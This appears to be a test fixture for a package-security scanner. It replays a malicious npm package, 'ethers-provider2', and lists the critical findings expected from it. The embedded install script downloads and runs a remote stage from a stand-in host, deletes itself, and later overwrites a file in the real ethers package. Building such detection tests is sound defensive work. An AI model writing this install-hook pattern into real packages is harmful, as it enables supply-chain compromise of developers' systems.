import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayAddition } from '../upgrade.js'

const install = `'use strict'

const { execSync } = require('child_process')
const fs = require('fs')
const http = require('http')
const os = require('os')
const path = require('path')

const local = path.join(os.tmpdir(), 'provider-setup.js')

const file = fs.createWriteStream(local)
http.get('http://files.provider.example/next', (response) => {
  response.pipe(file)
  file.on('finish', () => {
    file.close()
    execSync('node ' + local, { stdio: 'ignore' })
    fs.unlinkSync(local)
    fs.unlinkSync(__filename)
  })
})

/** Every minute: is the other package there by now? */
const wanted = path.join(process.cwd(), '..', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js')
const waiting = setInterval(() => {
  if (!fs.existsSync(wanted)) return
  clearInterval(waiting)
  http.get('http://files.provider.example/provider-jsonrpc.js', (response) => {
    let text = ''
    response.on('data', (piece) => (text += piece))
    response.on('end', () => fs.writeFileSync(wanted, text))
  })
}, 60000)
`

const inInstall = { file: 'install.js', line: 'fs.unlinkSync(__filename)' } as const

export const replay: Replay = replayAddition({
  description:
    'ethers-provider2 was a package of another name with a script that fetched the next stage, deleted itself, and wrote over a file of ' +
    'ethers, the real one, as soon as that was installed: removing the package did not undo it.',
  date: '2025-03',
  name: 'ethers-provider2',
  added: [
    '6.13.1',
    {
      manifest: { main: 'lib/index.js', scripts: { install: 'node install.js' } },
      files: { 'lib/index.js': compiledQueue, 'install.js': install },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inInstall],
    [
      'remote-code-run',
      'critical',
      { file: 'install.js', line: "http.get('http://files.provider.example/next', (response) => {" },
    ],
    ['beacon-added', 'high', { file: 'install.js', line: 'const waiting = setInterval(() => {' }],
    ['scanner-evasion', 'high', inInstall],
    ['install-script-present', 'medium', { file: 'package.json' }],
  ],
})
